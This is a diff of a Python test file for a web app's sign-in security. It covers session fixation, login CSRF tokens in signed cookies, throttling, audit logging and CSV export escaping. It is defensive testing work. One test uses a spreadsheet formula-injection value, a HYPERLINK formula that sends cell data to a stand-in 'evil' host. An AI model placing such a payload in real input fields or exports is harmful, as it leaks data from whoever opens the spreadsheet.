@@ -67,10 +67,31 @@ def test_sign_in_sets_a_strict_session_cookie_and_goes_on_to_next(anonymous):
 
 
 def test_the_session_id_changes_on_sign_in(anonymous):
-    anonymous.get("/login")
-    before = anonymous.get_cookie("stv_session").value
+    anonymous.set_cookie("stv_session", "planted-by-someone-else")  # session fixation: never kept
     sign_in(anonymous, "manager")
-    assert anonymous.get_cookie("stv_session").value != before
+    assert anonymous.get_cookie("stv_session").value not in ("", "planted-by-someone-else")
+    assert anonymous.get("/shortages").status_code == 200
+
+
+def test_opening_the_sign_in_form_stores_no_session(anonymous):
+    """A flood of anonymous visitors cannot fill the session store: the form's token is a signed cookie."""
+    response = anonymous.get("/login")
+    assert anonymous.get_cookie("stv_session") is None
+    cookie = response.headers["Set-Cookie"]
+    assert cookie.startswith("stv_login_csrf=") and "HttpOnly" in cookie and "Path=/login" in cookie
+
+
+def test_the_form_token_must_match_its_own_cookie(app):
+    first, second = app.server.test_client(), app.server.test_client()
+    token_of_first = csrf_of(first.get("/login").get_data(as_text=True))
+    second.get("/login")  # a cookie of its own: the first's token does not match it
+    response = second.post(
+        "/login", data={"username": "manager", "password": TEST_PASSWORD, "csrf_token": token_of_first}
+    )
+    assert response.status_code == 400
+    nonce = first.get_cookie("stv_login_csrf", path="/login").value
+    forged = first.post("/login", data={"username": "manager", "password": TEST_PASSWORD, "csrf_token": nonce})
+    assert forged.status_code == 400  # the cookie's value unsigned is no token
 
 
 def test_the_cookie_is_secure_over_https(app):
@@ -131,6 +152,26 @@ def test_failed_attempts_are_throttled_per_name(app):
     throttled = sign_in(client, "board")  # the right password, but too many failures first
     assert throttled.status_code == 429 and "Te veel mislukte pogingen" in throttled.get_data(as_text=True)
     assert signed_in_client(app, "manager")  # another name still signs in
+    elsewhere = app.server.test_client()  # the owner, from another address, is not locked out by a stranger's tries
+    assert sign_in(elsewhere, "board", environ_base={"REMOTE_ADDR": "192.0.2.7"}).status_code == 303
+
+
+def test_a_failed_sign_in_keeps_only_a_known_name_in_the_audit_log(app):
+    _state(app).add_account("typist", ("planner",), password=TEST_PASSWORD)
+    before = len(_state(app).audit(action="sign-in-failed", limit=None))
+    sign_in(app.server.test_client(), "my-secret-password", "oops")  # the password typed into the name field
+    sign_in(app.server.test_client(), "typist", "wrong")
+    rows = _state(app).audit(action="sign-in-failed", limit=None)
+    assert [row["username"] for row in rows[: len(rows) - before]] == ["typist", None]  # newest first
+    assert all("my-secret-password" not in str(row) for row in rows)
+
+
+def test_refused_requests_are_audited(app):
+    _state(app).add_account("board-member", ("board",), password=TEST_PASSWORD)
+    client = signed_in_client(app, "board-member")
+    assert client.get("/export/open-requests.csv").status_code == 403
+    newest = _state(app).audit(username="board-member", limit=1)[0]
+    assert (newest["action"], newest["target"]) == ("refused", "/export/open-requests.csv")
 
 
 def test_a_disabled_account_stops_at_once(app, make_app, fixture_sqlite):
@@ -289,7 +330,9 @@ def test_a_request_under_way_during_sign_out_does_not_sign_in_again(app):
 
 
 def test_a_name_typed_as_a_formula_reaches_the_audit_csv_as_text(app):
-    sign_in(app.server.test_client(), '=HYPERLINK("https://evil/?"&A1,"x")', "wrong")
+    name = '=HYPERLINK("https://evil/?"&A1,"x")'
+    _state(app).add_account(name, ("planner",), password=TEST_PASSWORD)  # the audit keeps known names only
+    sign_in(app.server.test_client(), name, "wrong")
     csv_text = signed_in_client(app, "admin").get("/admin/audit.csv?action=sign-in-failed").get_data(as_text=True)
     assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
 
